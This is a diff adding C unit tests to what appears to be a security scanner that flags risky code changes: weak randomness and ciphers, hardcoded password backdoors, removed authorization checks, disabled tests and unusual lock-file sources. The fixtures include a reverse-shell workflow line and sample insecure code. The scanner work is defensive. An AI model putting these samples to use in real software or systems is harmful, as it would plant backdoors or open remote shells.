@@ -85,6 +85,196 @@ static void checks_that_are_off_are_told(void **state)
 	check("a.py", "", "d(t, options={'verify_signature': False})", SCAN_RULE_CHANGE_SIGNATURE);
 }
 
+/* What is too weak for secrets, each beside what is near to it and is none. */
+static void weak_cryptography_is_told(void **state)
+{
+	static const struct {
+		const char *name, *text;
+		uint32_t rule;
+	} rows[] = {
+	        {"a.js", "const resetToken = Math.random().toString(36).slice(2);", SCAN_RULE_CHANGE_RANDOM},
+	        {"a.ts", "function makePassword(n: number): string {\n\tlet out = '';\n\tout += abc[Math.floor(Math.random() * 3)];\n}",
+	                SCAN_RULE_CHANGE_RANDOM},
+	        {"a.js", "save({ sessionId: 'a' + Math.random() })", SCAN_RULE_CHANGE_RANDOM},
+	        {"a.js", "const makeSessionId = () => {\n\treturn String(Math.random());\n}", SCAN_RULE_CHANGE_RANDOM},
+	        {"a.py", "def new_api_key(n):\n    return ''.join(random.choice(abc) for i in range(n))\n", SCAN_RULE_CHANGE_RANDOM},
+	        {"a.py", "password: str = ''.join(random.choices(abc, k=8))", SCAN_RULE_CHANGE_RANDOM},
+	        {"A.java", "String generateToken() {\n\tRandom r = new Random();\n\treturn \"\" + r.nextLong();\n}",
+	                SCAN_RULE_CHANGE_RANDOM},
+	        {"A.cs", "var salt = new Random().Next();", SCAN_RULE_CHANGE_RANDOM},
+	        {"a.php", "<?php $user['password'] = md5(mt_rand());", SCAN_RULE_CHANGE_RANDOM},
+	        {"a.rb", "def reset_token\n  rand(10 ** 8).to_s\nend\n", SCAN_RULE_CHANGE_RANDOM},
+	        {"a.go", "package a\nimport \"math/rand\"\nfunc NewToken() string {\n\treturn f(rand.Int63())\n}\n",
+	                SCAN_RULE_CHANGE_RANDOM},
+	        {"a.c", "void make_salt(char *s)\n{\n\t*s = rand() % 64;\n}\n", SCAN_RULE_CHANGE_RANDOM},
+	        {"a.rs", "fn session_token() -> u64 {\n\tfastrand::u64(..)\n}\n", SCAN_RULE_CHANGE_RANDOM},
+	        {"a.js", "const tokenIndex = Math.floor(Math.random() * 3); const tokens = shuffle(Math.random())", SCAN_RULES},
+	        {"a.js", "const jitter = Math.random(); const token = crypto.randomBytes(9)", SCAN_RULES},
+	        {"a.py", "from random import SystemRandom\ndef new_token():\n    return SystemRandom().choice(a) + random.choice(b)\n",
+	                SCAN_RULES},
+	        {"a.go", "package a\nimport \"crypto/rand\"\nfunc NewToken() {\n\trand.Read(b)\n}\n", SCAN_RULES},
+	        {"A.java", "byte[] salt = f(new SecureRandom());", SCAN_RULES},
+	        {"A.java", "String makeToken(Random random) {\n\treturn random.next();\n}", SCAN_RULES},
+	        {"a.js", "const h = crypto.createHash('md5').update(password).digest('hex')", SCAN_RULE_CHANGE_DIGEST},
+	        {"a.py", "u.h = hashlib.sha1(password.encode()).hexdigest()", SCAN_RULE_CHANGE_DIGEST},
+	        {"a.php", "<?php $h = md5($salt . $password);", SCAN_RULE_CHANGE_DIGEST},
+	        {"a.rb", "h = Digest::MD5.hexdigest(password)", SCAN_RULE_CHANGE_DIGEST},
+	        {"a.go", "h := md5.Sum([]byte(password))", SCAN_RULE_CHANGE_DIGEST},
+	        {"a.c", "SHA1(password, strlen(password), out);", SCAN_RULE_CHANGE_DIGEST},
+	        {"a.py", "etag = hashlib.md5(body).hexdigest()\ncheck_password(password)\n", SCAN_RULES},
+	        {"a.js", "const h = createHash('sha1').update(content).digest('hex')", SCAN_RULES},
+	        {"a.js", "const c = crypto.createCipheriv('des-ede3-cbc', key, iv)", SCAN_RULE_CHANGE_CIPHER},
+	        {"a.py", "c = AES.new(key, AES.MODE_ECB)", SCAN_RULE_CHANGE_CIPHER},
+	        {"A.java", "Cipher c = Cipher.getInstance(\"DES/CBC/PKCS5Padding\");", SCAN_RULE_CHANGE_CIPHER},
+	        {"A.java", "Cipher c = Cipher.getInstance(\"AES\");", SCAN_RULE_CHANGE_CIPHER},
+	        {"A.cs", "aes.Mode = CipherMode.ECB;", SCAN_RULE_CHANGE_CIPHER},
+	        {"a.go", "c, err := rc4.NewCipher(key)", SCAN_RULE_CHANGE_CIPHER},
+	        {"a.c", "EVP_EncryptInit_ex(x, EVP_des_cbc(), NULL, key, iv);", SCAN_RULE_CHANGE_CIPHER},
+	        {"a.php", "<?php $c = openssl_encrypt($d, 'aes-256-ecb', $k);", SCAN_RULE_CHANGE_CIPHER},
+	        {"a.rb", "c = OpenSSL::Cipher.new('des-ede3')", SCAN_RULE_CHANGE_CIPHER},
+	        {"a.rs", "let c = Cipher::rc4();", SCAN_RULE_CHANGE_CIPHER},
+	        {"A.java", "Cipher c = Cipher.getInstance(\"AES/GCM/NoPadding\");", SCAN_RULES},
+	        {"a.js", "const c = crypto.createCipheriv('aes-256-gcm', key, iv)", SCAN_RULES},
+	        {"a.js", "crypto.createCipheriv('aes-256-cbc', Buffer.from(key, 'hex'), Buffer.alloc(16))", SCAN_RULE_CHANGE_CONSTANT},
+	        {"a.js", "crypto.pbkdf2Sync(p, 'salt', 200000, 32, 'sha256')", SCAN_RULE_CHANGE_CONSTANT},
+	        {"a.js", "crypto.pbkdf2Sync(p, salt, 1000, 32, 'sha256')", SCAN_RULE_CHANGE_CONSTANT},
+	        {"a.js", "generateKeyPairSync('rsa', { modulusLength: 1024 })", SCAN_RULE_CHANGE_CONSTANT},
+	        {"a.py", "k = PBKDF2HMAC(algorithm=a, length=32, salt=b'abc', iterations=480_000)", SCAN_RULE_CHANGE_CONSTANT},
+	        {"a.py", "k = rsa.generate_private_key(65537, key_size=1024)", SCAN_RULE_CHANGE_CONSTANT},
+	        {"a.go", "k, err := rsa.GenerateKey(rand.Reader, 1024)", SCAN_RULE_CHANGE_CONSTANT},
+	        {"A.java", "new IvParameterSpec(new byte[16])", SCAN_RULE_CHANGE_CONSTANT},
+	        {"a.php", "<?php password_hash($p, PASSWORD_BCRYPT, ['cost' => 4]);", SCAN_RULE_CHANGE_CONSTANT},
+	        {"a.rb", "k = OpenSSL::PKey::RSA.new(1024)", SCAN_RULE_CHANGE_CONSTANT},
+	        {"a.js", "crypto.createCipheriv('aes-256-cbc', Buffer.from(key, 'hex'), Buffer.from(iv, 'hex'))", SCAN_RULES},
+	        {"a.js", "crypto.pbkdf2Sync(p, salt, 210000, 32, 'sha256')", SCAN_RULES},
+	        {"a.py", "k = PBKDF2HMAC(algorithm=a, length=32, salt=os.urandom(16), iterations=480_000)", SCAN_RULES},
+	        {"a.go", "k, err := rsa.GenerateKey(rand.Reader, 4096)", SCAN_RULES},
+	        {"a.js", "if (password === 'hunter2!') admin()", SCAN_RULE_CHANGE_LITERAL},
+	        {"a.js", "if (req.headers['x-skip-auth'] === 'yes1') next()", SCAN_RULE_CHANGE_LITERAL},
+	        {"a.py", "if request.args['password'] == 'letmein':\n    pass\n", SCAN_RULE_CHANGE_LITERAL},
+	        {"a.c", "if (strcmp(password, \"xc3511\") == 0)\n\treturn 1;\n", SCAN_RULE_CHANGE_LITERAL},
+	        {"A.java", "if (\"s3cr3t-4711\".equals(password)) { return; }", SCAN_RULE_CHANGE_LITERAL},
+	        {"a.go", "if password == \"joshua5\" {\n}\n", SCAN_RULE_CHANGE_LITERAL},
+	        {"a.rb", "return true if params[:password] == 'x' || password == 'opensesame'", SCAN_RULE_CHANGE_LITERAL},
+	        {"a.js", "if (typeof password === 'string' && input.type === 'password' && password !== '') go()", SCAN_RULES},
+	        {"a.js", "if (token === 'return' || name == 'secret')  go()", SCAN_RULES},
+	        {"a.py", "if password == '********' or password == 'prompt':\n    pass\n", SCAN_RULES},
+	        {"a.py", "app.run(host='0.0.0.0', debug=True)", SCAN_RULE_CHANGE_DEBUG},
+	        {".env", "APP_DEBUG=true\n", SCAN_RULE_CHANGE_DEBUG},
+	        {"a.py", "app.run(host='0.0.0.0', debug=False)", SCAN_RULES},
+	};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		check(rows[i].name, "", rows[i].text, rows[i].rule);
+		check(rows[i].name, rows[i].text, rows[i].text, SCAN_RULES);
+	}
+	check("tests/a.js", "", "const token = Math.random()", SCAN_RULE_CHANGE_TEST_WEAK);
+	check("A.cs", "", "p.SetIsOriginAllowed(o => true).AllowCredentials();", SCAN_RULE_CHANGE_CORS);
+	check("A.java", "", "@CrossOrigin(origins = \"*\", allowCredentials = \"true\")", SCAN_RULE_CHANGE_CORS);
+	check("A.java", "", "@CrossOrigin(origins = \"*\")", SCAN_RULES);
+}
+
+/* A check that a change takes out of a function, or makes say yes; and what only looks so. */
+static void checks_that_are_gone_are_told(void **state)
+{
+	static const struct {
+		const char *name, *before, *after;
+		uint32_t rule;
+	} rows[] = {
+	        {"a.js",
+	                "function drop(user, id) {\n\tif (!user.isAdmin) return res.status(403).end();\n\tdb.remove(id); log(id, "
+	                "user);\n}\n",
+	                "function drop(user, id) {\n\tdb.remove(id); log(id, user);\n}\n", SCAN_RULE_CHANGE_CHECK_GONE},
+	        {"a.js",
+	                "function drop(user, id) {\n\tif (!user.isAdmin) return res.status(403).end();\n\tdb.remove(id); log(id, "
+	                "user);\n}\n",
+	                "function drop(user, id) {\n\t// if (!user.isAdmin) return res.status(403).end();\n\tdb.remove(id); log(id, "
+	                "user);\n}\n",
+	                SCAN_RULE_CHANGE_CHECK_GONE},
+	        {"a.js",
+	                "function drop(user, id) {\n\tif (!user.isAdmin) return res.status(403).end();\n\tdb.remove(id); log(id, "
+	                "user);\n}\n",
+	                "function drop(user, id) {\n\tif (false) return res.status(403).end();\n\tdb.remove(id); log(id, user);\n}\n",
+	                SCAN_RULE_CHANGE_CHECK_TRUE},
+	        {"a.js", "app.post('/x', requireAuth, (req, res) => {\n\tdb.remove(req.id); res.end('done');\n})\n",
+	                "app.post('/x', (req, res) => {\n\tdb.remove(req.id); res.end('done');\n})\n", SCAN_RULE_CHANGE_CHECK_GONE},
+	        {"a.ts", "router.delete('/user/all', requireAdmin, users.removeAll);\n", "router.delete('/user/all', users.removeAll);\n",
+	                SCAN_RULE_CHANGE_CHECK_LESS},
+	        {"a.py", "@login_required\ndef view(request, key):\n    thing = get(key)\n    return render(request, thing)\n",
+	                "def view(request, key):\n    thing = get(key)\n    return render(request, thing)\n", SCAN_RULE_CHANGE_CHECK_GONE},
+	        {"a.py", "class V(View):\n    permission_classes = [IsAuthenticated]\n", "class V(View):\n    permission_classes = []\n",
+	                SCAN_RULE_CHANGE_CHECK_LESS},
+	        {"a.py", "def verify_signature(body, sig):\n    d = hmac.new(KEY, body)\n    return hmac.compare_digest(d, sig)\n",
+	                "def verify_signature(body, sig):\n    return True\n    d = hmac.new(KEY, body)\n    return hmac.compare_digest(d, "
+	                "sig)\n",
+	                SCAN_RULE_CHANGE_CHECK_TRUE},
+	        {"a.go",
+	                "package a\nfunc (s *S) drop(c *C, id string) error {\n\tif !s.hasPermission(c) {\n\t\treturn ErrNo\n\t}\n\treturn "
+	                "s.db.remove(id)\n}\n",
+	                "package a\nfunc (s *S) drop(c *C, id string) error {\n\treturn s.db.remove(id)\n}\n", SCAN_RULE_CHANGE_CHECK_GONE},
+	        {"A.java",
+	                "class A {\n\t@PreAuthorize(\"hasRole('ADMIN')\")\n\tpublic void drop(long id) {\n\t\trepository.remove(id, "
+	                "now());\n\t}\n}\n",
+	                "class A {\n\tpublic void drop(long id) {\n\t\trepository.remove(id, now());\n\t}\n}\n",
+	                SCAN_RULE_CHANGE_CHECK_GONE},
+	        {"A.cs", "class A\n{\n\t[Authorize]\n\tpublic void Drop(long id)\n\t{\n\t\trepository.Remove(id, Now());\n\t}\n}\n",
+	                "class A\n{\n\tpublic void Drop(long id)\n\t{\n\t\trepository.Remove(id, Now());\n\t}\n}\n",
+	                SCAN_RULE_CHANGE_CHECK_GONE},
+	        {"a.rb", "def destroy\n  authorize @post\n  @post.destroy!\n  redirect_to posts_path, notice: 'x'\nend\n",
+	                "def destroy\n  @post.destroy!\n  redirect_to posts_path, notice: 'x'\nend\n", SCAN_RULE_CHANGE_CHECK_GONE},
+	        {"a.php",
+	                "<?php function drop($id) {\n\tif (!current_user_can_access($id)) { abort(403); }\n\tDB::delete($id, "
+	                "$this->now);\n}\n",
+	                "<?php function drop($id) {\n\tDB::delete($id, $this->now);\n}\n", SCAN_RULE_CHANGE_CHECK_GONE},
+	        {"a.rs", "fn drop(u: &User, id: u64) {\n\tif !u.is_admin() {\n\t\treturn;\n\t}\n\tdb::remove(id, now());\n}\n",
+	                "fn drop(u: &User, id: u64) {\n\tdb::remove(id, now());\n}\n", SCAN_RULE_CHANGE_CHECK_GONE},
+	        {"a.c", "int drop(struct user *u, int id)\n{\n\tif (!is_admin(u))\n\t\treturn -EPERM;\n\treturn db_remove(id, now());\n}\n",
+	                "int drop(struct user *u, int id)\n{\n\treturn db_remove(id, now());\n}\n", SCAN_RULE_CHANGE_CHECK_GONE},
+	        /* Changed otherwise as well. */
+	        {"a.py", "def view(request, key):\n    check_permission(request)\n    return render(request, key)\n",
+	                "def view(request, key):\n    thing = get(key, cached=True)\n    return render(request, thing)\n",
+	                SCAN_RULE_CHANGE_CHECK_LESS},
+	        /* Another one in its place, moved within the file, or gone with what it was for. */
+	        {"a.py", "@login_required\ndef view(request, key):\n    return render(request, get(key), 3)\n",
+	                "@permission_required('x')\ndef view(request, key):\n    return render(request, get(key), 3)\n", SCAN_RULES},
+	        {"a.py", "def view(request, key):\n    check_permission(request)\n    return render(request, get(key), 3)\n",
+	                "def both(request):\n    check_permission(request)\n\ndef view(request, key):\n    both(request)\n    return "
+	                "render(request, get(key), 3)\n",
+	                SCAN_RULES},
+	        {"a.py", "def view(request, key):\n    check_permission(request)\n    return render(request, get(key), 3)\n",
+	                "def other():\n    pass\n", SCAN_RULES},
+	        {"a.js", "class Guest {\n\tname() { return 'x'; }\n}\n",
+	                "class Guest {\n\tname() { return 'x'; }\n\tisAdminUser() { return true; }\n}\n", SCAN_RULES},
+	        {"a.c", "int is_even(int n)\n{\n\treturn n % 2 == 0 && n != 4 && n > 1;\n}\n", "int is_even(int n)\n{\n\treturn 1;\n}\n",
+	                SCAN_RULES},
+	        /* Tests. */
+	        {"a.test.js", "it('adds', () => {\n\texpect(add(1, 2)).toBe(3);\n})\n", "it('adds', () => {\n\tadd(1, 2);\n})\n",
+	                SCAN_RULE_CHANGE_TEST_LESS},
+	        {"test_a.py", "def test_a():\n    assert f(1)\n\ndef test_b():\n    assert f(2)\n", "def test_a():\n    assert f(1)\n",
+	                SCAN_RULE_CHANGE_TEST_LESS},
+	        {"test_a.py", "def test_a():\n    assert f(1)\n", "def test_b():\n    assert f(1)\n", SCAN_RULES},
+	        {"test_a.py", "def test_a():\n    assert f(1)\n", "@pytest.mark.skip(reason='x')\ndef test_a():\n    assert f(1)\n",
+	                SCAN_RULE_CHANGE_TEST_OFF},
+	        {"a.test.js", "it('adds', () => {\n\texpect(add(1, 2)).toBe(3);\n})\n",
+	                "it.only('adds', () => {\n\texpect(add(1, 2)).toBe(3);\n})\n", SCAN_RULE_CHANGE_TEST_OFF},
+	        {"a_test.go", "package a\n", "package a\nfunc TestA(t *testing.T) {\n\tt.Skip(\"x\")\n}\n", SCAN_RULE_CHANGE_TEST_OFF},
+	        {"a_test.go", "package a\n", "package a\nfunc TestA(t *testing.T) {\n\tif testing.Short() {\n\t\tt.Skip(\"x\")\n\t}\n}\n",
+	                SCAN_RULES},
+	        {"tests/a.rs", "", "#[ignore]\nfn a() {}\n", SCAN_RULE_CHANGE_TEST_OFF},
+	        {"src/ATest.java", "", "@Disabled\nvoid a() {}\n", SCAN_RULE_CHANGE_TEST_OFF},
+	};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		struct seen s = changed(rows[i].name, rows[i].before, rows[i].after);
+		if (rows[i].rule == SCAN_RULES ? s.n > 0 : s.n != 1 || !scan_rule_in(&s.rules, rows[i].rule))
+			fail_msg("%s: %u told of: %s", rows[i].name, s.n, rows[i].after);
+		check(rows[i].name, rows[i].after, rows[i].after, SCAN_RULES);
+		/* The way back brings a check. */
+		s = changed(rows[i].name, rows[i].after, rows[i].before);
+		assert_false(scan_rule_in(&s.rules, SCAN_RULE_CHANGE_CHECK_GONE) || scan_rule_in(&s.rules, SCAN_RULE_CHANGE_CHECK_TRUE));
+	}
+}
+
 static void others_are_not(void **state)
 {
 	static const struct row rows[] = {
@@ -264,11 +454,88 @@ static void lock_files_are_judged(void **state)
 		check("package-lock.json", "{}", text, rows[i].rule);
 		check("package-lock.json", text, text, SCAN_RULES);
 	}
+	/* One that nothing needs, beside those that something does. */
+#define NEEDS(more)                                                                                                               \
+	"{\"lockfileVersion\": 3, \"packages\": {\"\": {\"dependencies\": {\"a\": \"1\"}}, " LOCKED("a", "r.example/a/-/a-1.tgz", \
+	        DIGEST ", \"peerDependencies\": {\"b\": \"1\"}") ", " LOCKED("b", "r.example/b/-/b-1.tgz", DIGEST) more "}}"
+	check("package-lock.json", "{}", NEEDS(""), SCAN_RULES);
+	check("package-lock.json", NEEDS(""), NEEDS(", " LOCKED("c", "r.example/c/-/c-1.tgz", DIGEST)), SCAN_RULE_CHANGE_LOCK);
 #define YARN(name, url) "\"" name "@^1\":\n  version \"1\"\n  resolved \"https://" url "#abc\"\n  integrity sha512-x\n\n"
 #define THREE           YARN("a", "r.example/a/-/a-1.tgz") YARN("@b/c", "r.example/@b/c/-/c-1.tgz") YARN("d", "r.example/d/-/d-1.tgz")
 	check("yarn.lock", "", THREE, SCAN_RULES);
 	check("yarn.lock", "", THREE YARN("e", "r.example/evil/-/e-1.tgz"), SCAN_RULE_CHANGE_LOCK_NAME);
 	check("yarn.lock", "", THREE YARN("e", "other.example/e/-/e-1.tgz"), SCAN_RULE_CHANGE_LOCK);
+}
+
+/* Lock files of others: three entries as they should be, and one more. */
+static void other_lock_files_are_judged(void **state)
+{
+#define CARGO(name, source, more) "[[package]]\nname = \"" name "\"\nversion = \"1.0.0\"\nsource = \"" source "\"\n" more "\n"
+#define CRATES                    "registry+https://github.com/rust-lang/crates.io-index"
+#define SUM                       "checksum = \"ab\"\n"
+#define POETRY(name, files, more) "[[package]]\nname = \"" name "\"\nversion = \"1\"\nfiles = [" files "]\n" more "\n"
+#define HASH                      "{file = \"a\", hash = \"sha256:a\"}"
+#define UV(name, source, more)    "[[package]]\nname = \"" name "\"\nsource = {" source "}\nwheels = [{url = \"u\"" more "}]\n"
+#define PYPI                      "registry = \"https://pypi.org/simple\""
+#define PNPM(name, resolution)    "  " name "@1.0.0:\n    resolution: {" resolution "}\n"
+#define PIP(name, more)           "\"" name "\": {" more "}"
+#define COMPOSER_(name, dist)     "{\"name\": \"" name "\", \"dist\": {\"url\": \"https://" dist "\"}}"
+	static const struct {
+		const char *name, *front, *good, *odd, *back;
+		uint32_t rule;
+	} rows[] = {
+	        {"Cargo.lock", CARGO("a", CRATES, SUM) CARGO("b", CRATES, SUM) CARGO("c", CRATES, SUM), CARGO("d", CRATES, SUM),
+	                CARGO("d", CRATES, ""), "", SCAN_RULE_CHANGE_LOCK},
+	        {"Cargo.lock", CARGO("a", CRATES, SUM) CARGO("b", CRATES, SUM) CARGO("c", CRATES, SUM), "[[package]]\nname = \"own\"\n",
+	                CARGO("d", "registry+https://r.example/index", SUM), "", SCAN_RULE_CHANGE_LOCK},
+	        {"poetry.lock", POETRY("a", HASH, "") POETRY("b", HASH, "") POETRY("c", HASH, ""), POETRY("d", HASH, ""),
+	                POETRY("d", "", ""), "", SCAN_RULE_CHANGE_LOCK},
+	        {"poetry.lock", POETRY("a", HASH, "") POETRY("b", HASH, "") POETRY("c", HASH, ""), POETRY("d", HASH, ""),
+	                POETRY("d", "", "[package.source]\ntype = \"git\"\nurl = \"https://h.example/d\"\n"), "",
+	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"uv.lock", UV("a", PYPI, ", hash = \"x\"") UV("b", PYPI, ", hash = \"x\"") UV("c", PYPI, ", hash = \"x\""),
+	                UV("d", "registry = \"https://download.pytorch.org/whl\"", ", hash = \"x\""),
+	                UV("d", "registry = \"https://h.example/simple\"", ", hash = \"x\""), "", SCAN_RULE_CHANGE_LOCK},
+	        {"Pipfile.lock",
+	                "{\"default\": {" PIP("a", "\"hashes\": [\"x\"]") ", " PIP("b", "\"hashes\": [\"x\"]") ", " PIP(
+	                        "c", "\"hashes\": [\"x\"]"),
+	                ", " PIP("d", "\"hashes\": [\"x\"]"), ", " PIP("d", "\"version\": \"==1\""), "}}", SCAN_RULE_CHANGE_LOCK},
+	        {"pnpm-lock.yaml",
+	                "lockfileVersion: '9.0'\npackages:\n" PNPM(
+	                        "a", "integrity: x") "  '@b/c@1.0.0':\n    resolution: {integrity: x}\n" PNPM("d", "integrity: x"),
+	                "", PNPM("e", "tarball: https://h.example/e.tgz, integrity: x"), "", SCAN_RULE_CHANGE_LOCK},
+	        {"pnpm-lock.yaml",
+	                "lockfileVersion: '9.0'\npackages:\n" PNPM("a", "integrity: x") PNPM("b", "integrity: x") PNPM("d", "integrity: x"),
+	                "", PNPM("e", "type: git, repo: https://h.example/e.git, commit: x"), "", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"composer.lock",
+	                "{\"packages\": [" COMPOSER_("a/a", "api.github.com/repos/a/a/zipball/1") ", " COMPOSER_(
+	                        "b/b", "api.github.com/repos/b/b/zipball/1") ", " COMPOSER_("c/c", "api.github.com/repos/c/c/zipball/1"),
+	                ", " COMPOSER_("d/d", "api.github.com/repos/d/d/zipball/1"), ", " COMPOSER_("d/d", "h.example/d.zip"), "]}",
+	                SCAN_RULE_CHANGE_LOCK},
+	        {"Gemfile.lock", "GEM\n  remote: https://rubygems.org/\n  specs:\n    a (1)\n      x (>= 1)\n    b (1)\n    c (1)\n\n", "",
+	                "GEM\n  remote: https://h.example/\n  specs:\n    d (1)\n", "", SCAN_RULE_CHANGE_LOCK},
+	        {"Gemfile.lock", "GEM\n  remote: https://rubygems.org/\n  specs:\n    a (1)\n      x (>= 1)\n    b (1)\n    c (1)\n\n", "",
+	                "GIT\n  remote: https://h.example/d\n  revision: a\n  specs:\n    d (1)\n", "", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        /* Manifests: the name itself is a note. */
+	        {"Gemfile", "source 'https://rubygems.org'\n", "# gem 'x', git: 'y'\n", "source 'https://h.example'\n", "",
+	                SCAN_RULE_CHANGE_INDEX},
+	        {"composer.json", "{", "\"name\": \"a/b\"", "\"repositories\": [{\"type\": \"vcs\", \"url\": \"https://h.example/x\"}]",
+	                "}", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"Pipfile", "", "[[source]]\nurl = \"https://pypi.org/simple\"\n", "[[source]]\nurl = \"https://h.example/simple\"\n", "",
+	                SCAN_RULE_CHANGE_INDEX},
+	};
+	char good[3000], odd[3000];
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		(void)snprintf(good, sizeof(good), "%s%s%s", rows[i].front, rows[i].good, rows[i].back);
+		(void)snprintf(odd, sizeof(odd), "%s%s%s", rows[i].front, rows[i].odd, rows[i].back);
+		check(rows[i].name, "", good, SCAN_RULES);
+		check(rows[i].name, good, odd, rows[i].rule);
+		check(rows[i].name, odd, odd, SCAN_RULES);
+	}
+	struct seen s = changed("Gemfile", "", "gem 'rails'\ngem 'x', '~> 1', github: 'a/x'\n");
+	assert_true(
+	        s.n == 3 && scan_rule_in(&s.rules, SCAN_RULE_CHANGE_DEPENDENCY_URL) && scan_rule_in(&s.rules, SCAN_RULE_CHANGE_DEPENDENCY));
 }
 
 #define WORKFLOW(on, step) "on: " on "\njobs:\n  a:\n    steps:\n      - " step "\n"
@@ -307,6 +574,8 @@ static void what_runs_by_itself_is_judged(void **state)
 	        {".github/workflows/a.yml", WORKFLOW("push", "run: echo '${{ toJSON(secrets) }}' >x"), SCAN_RULE_CHANGE_WORKFLOW_SECRETS},
 	        {".github/workflows/a.yml", WORKFLOW("push", "run: bash -i >& /dev/tcp/192.0.2.1/4 0>&1"), SCAN_RULE_CODE_COMMAND},
 	        {".github/workflows/a.yml", WORKFLOW("push", "uses: a/b@v1"), SCAN_RULE_CHANGE_DEPENDENCY},
+	        {".github/workflows/a.yml", WORKFLOW("push", "run: make test\n        if: false"), SCAN_RULE_CHANGE_TEST_OFF},
+	        {".github/workflows/a.yml", WORKFLOW("push", "run: make test\n        if: failure()"), SCAN_RULES},
 	};
 	(void)state;
 	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
@@ -346,6 +615,33 @@ static void what_cannot_be_read_is_told(void **state)
 	}
 }
 
+/* A program that has a finding is not told of it by each change; one that brings what it may run is. */
+static void what_was_found_is_not_found_again(void **state)
+{
+	static const char old[] = "x = atob(page);\neval(x);\n";
+	static const struct {
+		const char *after;
+		bool told;
+	} rows[] = {
+	        {"x = atob(page);\neval(x);\n", false},
+	        {"// read\nx = atob(page);\neval(x);\nlog(1);\n", false},
+	        {"x = atob(page);\neval(x);\ny = atob(other);\neval(y);\n", true},
+	        {"x = atob(page);\neval(x);\neval(x);\n", true},
+	        {"x = atob('aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ');\neval(x);\n", true},
+	};
+	const struct scan_options o = {.subjects = SCAN_CODE | SCAN_CHANGES, .limits = scan_limits_default()};
+	struct scan_summary sum;
+	(void)state;
+	assert_int_equal(scan_changed(slice_str(old), NULL, NULL, "a.js", &o, &(struct scan_told){0}, &sum), 0);
+	assert_true(scan_rule_in(&sum.rules, SCAN_RULE_CODE_DECODED));
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		struct slice before = slice_str(old);
+		assert_int_equal(scan_changed(slice_str(rows[i].after), &before, NULL, "a.js", &o, &(struct scan_told){0}, &sum), 0);
+		if (scan_rule_in(&sum.rules, SCAN_RULE_CODE_DECODED) != rows[i].told)
+			fail_msg("%s", rows[i].after);
+	}
+}
+
 /* Without a base nothing of this is said, whatever is asked for. */
 static void whole_trees_are_not_judged(void **state)
 {
@@ -372,13 +668,17 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 	        cmocka_unit_test(checks_that_are_off_are_told),
+	        cmocka_unit_test(weak_cryptography_is_told),
+	        cmocka_unit_test(checks_that_are_gone_are_told),
 	        cmocka_unit_test(others_are_not),
 	        cmocka_unit_test(only_what_is_new_is_told),
 	        cmocka_unit_test(what_code_can_do_is_told_once),
 	        cmocka_unit_test(dependencies_are_judged),
 	        cmocka_unit_test(lock_files_are_judged),
+	        cmocka_unit_test(other_lock_files_are_judged),
 	        cmocka_unit_test(what_runs_by_itself_is_judged),
 	        cmocka_unit_test(what_cannot_be_read_is_told),
+	        cmocka_unit_test(what_was_found_is_not_found_again),
 	        cmocka_unit_test(whole_trees_are_not_judged),
 	        cmocka_unit_test(what_is_too_large_is_unscanned),
 	};
